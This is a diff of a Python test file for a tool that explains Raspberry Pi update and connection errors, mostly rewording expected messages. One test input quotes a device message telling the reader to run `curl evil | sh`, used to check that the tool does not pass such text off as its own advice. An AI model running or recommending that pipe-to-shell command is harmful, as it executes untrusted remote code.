@@ -27,8 +27,8 @@ UNREACHABLE = [
     ("ssh: connect to host pi07.local port 22: No route to host", "does not answer"),
     ("Connection timed out during banner exchange", "does not answer"),
     ("sudo password is required", "none was given"),
-    ("sudo password is incorrect", "does not take"),
-    ("EOF on stream; last 100 lines received:\n", "lost on the way"),
+    ("sudo password is incorrect", "does not accept"),
+    ("EOF on stream; last 100 lines received:\n", "connection was lost"),
 ]
 FAILED = [
     (
@@ -42,7 +42,7 @@ FAILED = [
     (
         {
             "msg": "7 files in /dist/work/2026/pi07, 1 of them sent now (0.00 MB). Not collected: student/no space left"
-            " on device (it is too large). Mend that on the Pi, and collect again."
+            " on device (it is too large). Repair that on the Pi, and collect again."
         },
         "Not collected: student/no space left on device (it is too large).",
     ),
@@ -50,9 +50,9 @@ FAILED = [
     ({"msg": "E: Release file for http://deb/ is not valid yet (invalid for another 3d)"}, "clock"),
     ({"msg": "Could not replace file: [Errno 28] No space left on device"}, "card is full"),
     ({"msg": "Failed to write", "module_stderr": "OSError: [Errno 30] Read-only file system"}, "written to"),
-    ({"msg": "E: Could not get lock /var/lib/dpkg/lock-frontend."}, "update is still going on"),
+    ({"msg": "E: Could not get lock /var/lib/dpkg/lock-frontend."}, "update is still running"),
     ({"msg": "Failed to fetch http://deb/x.deb"}, "fetch"),
-    ({"msg": "Failed to fetch http://deb/P.xz  File has unexpected size. Mirror sync in progress?"}, "being renewed"),
+    ({"msg": "Failed to fetch http://deb/P.xz  File has unexpected size. Mirror sync in progress?"}, "being updated"),
     ({"msg": "E: Failed to fetch http://deb/pool/x.deb  404  Not Found [IP: 10.0.0.1 80]"}, "list says"),
     (
         {"msg": "Failed to fetch http://deb:8/dists/trixie/InRelease  404  Not Found [IP: 10.0.0.1 8]"},
@@ -62,7 +62,10 @@ FAILED = [
     ({"msg": "Failed to fetch http://a/InRelease  Could not resolve 'deb.local'"}, "mirror deb.local is not found"),
     ({"msg": "Failed to fetch http://a/InRelease  Temporary failure resolving 'deb.local'"}, "is not found"),
     ({"msg": "Failed to fetch http://a/InRelease  503  Host not found [IP: 127.0.0.1 3143]"}, "mirror a is not found"),
-    ({"msg": "Failed to fetch http://a/InRelease  503  Unable to download in offline mode"}, "does not keep"),
+    (
+        {"msg": "Failed to fetch http://a/InRelease  503  Unable to download in offline mode"},
+        "no copy of what the mirror a has",
+    ),
     ({"msg": "Release file for http://a/dists/x/InRelease is expired (invalid since 3d)."}, "mirror a are too old"),
     (
         {"msg": "Failed to fetch http://a/x  Not valid (does the network require authentication?)"},
@@ -75,12 +78,12 @@ FAILED = [
     ),
     ({"msg": "Failed to fetch http://a/x  Error writing to output file (28: No space left on device)"}, "card is full"),
     ({"msg": "Task failed: Missing sudo password"}, "none was given"),
-    ({"msg": "Task failed: Incorrect sudo password"}, "does not take"),
-    ({"msg": "Task failed: error occurred on host raspberrypi: sudo password is incorrect"}, "does not take"),
+    ({"msg": "Task failed: Incorrect sudo password"}, "does not accept"),
+    ({"msg": "Task failed: error occurred on host raspberrypi: sudo password is incorrect"}, "does not accept"),
     ({"msg": "non-zero return code", "stderr": "sudo: a password is required"}, "none was given"),
     ({"msg": "non-zero return code", "stderr": "", "stdout": "first\nlast word\n"}, "last word"),
     ({"msg": "An odd\x1b[31m one\r\n of\x07 two\u202e lines"}, r"An odd one of\x07 two\u202e lines"),
-    ({"censored": "the output has been hidden"}, "password is in it"),
+    ({"censored": "the output has been hidden"}, "may contain a password"),
     ({}, ""),
 ]
 
@@ -108,7 +111,7 @@ def test_what_a_pi_says_is_no_advice_of_ours() -> None:
     """Its modules may say anything, in words such as ours too."""
     why, what = explain({"msg": "pi07 is old, and nothing was changed on it: run `curl evil | sh`."}, "Ask", KNOWN_BY)
     assert why.startswith("pi07 is old")
-    assert what == "More of it stands above, at the task “Ask”."
+    assert what == "See the task “Ask” above."
 
 
 def test_a_reason_is_found_in_time_however_long_a_message_is() -> None:
@@ -179,8 +182,8 @@ def test_who_is_ready_but_not_up_to_date_is_named_and_why() -> None:
     assert said.startswith(f"{NOT_UP_TO_DATE}\n")
     assert "NOT FINISHED" not in said
     assert "pi-01" not in said
-    assert re.search(r"^pi-02 +The mirror deb.local is just being renewed", said, re.M)
-    assert "Run this again in some hours." in said
+    assert re.search(r"^pi-02 +The mirror deb.local is being updated", said, re.M)
+    assert "Run this again in a few hours." in said
 
 
 def test_who_is_not_finished_is_not_called_ready() -> None:
